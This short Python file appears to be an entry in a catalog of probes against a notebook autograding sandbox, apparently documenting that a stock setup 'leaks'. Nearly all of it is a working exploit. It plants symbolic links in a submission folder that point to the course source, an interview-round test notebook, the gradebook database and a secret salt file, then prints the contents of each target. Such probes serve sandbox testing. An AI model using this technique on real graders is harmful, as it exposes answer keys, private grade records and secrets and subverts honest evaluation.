# tries: symbolic links in the submission that lead to sources, gradebook and the rest of the machine
# points: none
# flag: allowed
# stock: yes, leaks
# %% answer: relative-change
import glob
import os

for path in glob.glob("leads*"):
    for found in glob.glob(f"{path}/*/*.ipynb") if os.path.isdir(path) else [path]:
        try:
            print(open(found, "rb").read()[:20_000])
        except OSError as error:
            print(error.strerror)
# %% edit
(folder / "leads-to-source").symlink_to("../../../source")
(folder / "leads-to-test.txt").symlink_to("../../../source/round-3-technical-phone-screen/warm-up.ipynb")
(folder / "leads-to-book.txt").symlink_to("../../../gradebook.db")
(folder / "leads-to-salt.txt").symlink_to("../../../.rounds-salt")
